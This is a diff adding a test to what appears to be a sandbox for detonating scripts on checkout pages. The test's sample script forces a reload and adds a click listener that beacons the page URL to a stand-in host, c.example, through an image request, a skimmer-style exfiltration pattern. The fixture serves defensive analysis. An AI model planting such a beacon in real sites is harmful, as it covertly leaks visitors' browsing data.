@@ -155,3 +155,19 @@ describe('what an observation records', () => {
     })
   })
 })
+
+describe('a sample that navigates the page itself', () => {
+  it('is still played on every checkout when it reloads the page as it loads', async () => {
+    // Each checkout's first load is sent elsewhere by the sample while it loads: the chamber's
+    // own navigation is stopped (or aborted and made again), and the buyer is played regardless.
+    const o = await chamber.detonate(
+      "var k = 'r' + location.pathname + location.search; if (!sessionStorage.getItem(k)) {" +
+        " sessionStorage.setItem(k, '1'); location.replace(location.pathname + location.search + '?again') }" +
+        " document.addEventListener('click', function () { new Image().src = 'https://c.example/seen?at=' + encodeURIComponent(location.href) })",
+    )
+    expect(o.status, o.reason ?? '').toBe('ok')
+    expect(o.pages).toHaveLength(3)
+    const seen = o.requests.filter((r) => r.url.startsWith('https://c.example/seen'))
+    expect(new Set(seen.map((r) => new URL(r.url).searchParams.get('at'))).size).toBe(3)
+  })
+})
